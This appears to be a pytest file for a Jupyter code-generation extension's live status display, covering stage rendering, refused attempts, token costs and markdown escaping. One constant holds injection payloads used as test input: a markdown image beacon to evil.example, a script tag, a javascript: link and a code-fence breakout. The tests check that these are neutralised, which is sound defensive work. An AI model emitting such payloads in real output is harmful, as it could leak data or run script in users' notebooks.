"""The live status: what is drawn, and that nothing a model chose can draw by itself."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from jupyter_autocoder.events import Finding, Outcome, Progress, Prompt, Run, Usage, Variable, Verdict
from jupyter_autocoder.magics import status as module
from jupyter_autocoder.magics.status import Status, escape, fence, flow, money

REFUSED = Verdict(findings=(Finding(rule="imports", line=3, column=0, message="os is refused", fix=""),))


class Screen:
    """Keeps what was published."""

    def __init__(self) -> None:
        self.shown: list[dict[str, str]] = []
        self.metadata: Mapping[str, Any] = {}

    def __call__(self, bundle: dict[str, str], metadata: Mapping[str, Any]) -> None:
        self.shown.append(bundle)
        self.metadata = metadata

    @property
    def last(self) -> dict[str, str]:
        return self.shown[-1]


@pytest.fixture
def screen(monkeypatch: pytest.MonkeyPatch) -> Screen:
    monkeypatch.setattr(module, "_INTERVAL", 0.0)
    return Screen()


def outcome(**changes: Any) -> Outcome:
    given: dict[str, Any] = {
        "prompt": Prompt(text="p"),
        "source": "x = 1\n",
        "verdict": Verdict(),
        "run": Run(ok=True),
        "model": "gpt-4o",
        "usage": Usage(input_tokens=10, output_tokens=5, cost=1234, requests=1),
        **changes,
    }
    return Outcome(**given)


def test_each_stage_is_drawn_and_the_code_streams_in(screen: Screen) -> None:
    status = Status(screen)

    for event in (
        Progress(stage="waiting", seconds=12.4, text="3 requests a minute are used up"),
        Progress(stage="asking", model="gpt-4o"),
        Progress(stage="writing", text="```python\nx ="),
        Progress(stage="writing", text=" 1"),
        Progress(stage="checking", verdict=Verdict(), text="x = 1"),
        Progress(stage="running", output={"output_type": "stream", "name": "stdout", "text": "half way\n"}),
    ):
        status.draw(event)

    plain = [bundle["text/plain"] for bundle in screen.shown]
    assert "waiting 12 s" in plain[0]
    assert "asking gpt-4o" in plain[1]
    assert "x = 1" in screen.shown[3]["text/markdown"]
    assert "half way" in screen.last["text/markdown"]


def test_a_refused_attempt_stays_visible(screen: Screen) -> None:
    status = Status(screen)

    status.draw(Progress(stage="checking", verdict=REFUSED, text="import os"))
    status.draw(Progress(stage="asking", attempt=2))

    assert r"attempt 1\: refused, line 3\: os is refused" in screen.last["text/markdown"]


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({}, ["gpt-4o", "10 + 5 tokens", "$0.0012", "unchecked"]),
        ({"replayed": True}, ["replayed from autocode.lock", "unchecked"]),
        ({"prompt": Prompt(text="p", checks="assert x"), "checks": 1, "checks_passed": 1}, ["1 of 1 checks passed"]),
        ({"run": None}, ["not run", "x = 1"]),
        ({"usage": Usage(cost=None, estimated=True, requests=1)}, ["~price unknown"]),
        ({"verdict": Verdict(capabilities=("plotting",))}, ["uses plotting"]),
    ],
)
def test_the_last_line_tells_how_it_came_to_be(screen: Screen, changes: dict[str, Any], words: list[str]) -> None:
    Status(screen).finish(outcome(**changes), (), {"jupyter_autocoder": {}})

    for word in words:
        assert word in screen.last["text/plain"]
    assert "jupyter_autocoder" in screen.metadata


def test_a_failure_shows_the_last_code_and_what_was_spent(screen: Screen) -> None:
    Status(screen).fail("It broke.", "x = 1\n", Usage(input_tokens=3, requests=1), {})

    assert "✗ It broke. · 3 + 0 tokens" in screen.last["text/plain"]
    assert "x = 1" in screen.last["text/markdown"]


HOSTILE = "![x](http://evil.example/?d=1) <script>alert(1)</script> [a](javascript:x) ``` \n# title"


def test_a_hostile_text_is_only_text(screen: Screen) -> None:
    assert "![" not in escape(HOSTILE)
    assert "<script" not in escape(HOSTILE)
    assert "\n" not in escape(HOSTILE)
    assert fence("```\n" + HOSTILE).startswith("````\n")


def test_a_hostile_answer_cannot_leave_its_code_block_while_it_streams(screen: Screen) -> None:
    status = Status(screen)

    status.draw(Progress(stage="writing", text="```python\nx\n```\n" + HOSTILE))

    block = screen.last["text/markdown"].split("\n\n", 1)[1]
    ticks = block.split("python")[0]
    assert block.count(ticks) == 2
    assert block.endswith(ticks)


def test_flow_tells_what_went_in_and_out() -> None:
    variables = (Variable(name="prices", type="DataFrame", summary="2.1M rows"),)

    assert flow(variables, ("summary",)) == "in: prices (2.1M rows) → out: summary"
    assert flow((), ()) == ""


@pytest.mark.parametrize(
    ("cost", "text"), [(0, "$0"), (None, "price unknown"), (4200, "$0.0042"), (2_500_000, "$2.50")]
)
def test_money_is_shown_in_dollars(cost: int | None, text: str) -> None:
    assert money(cost) == text
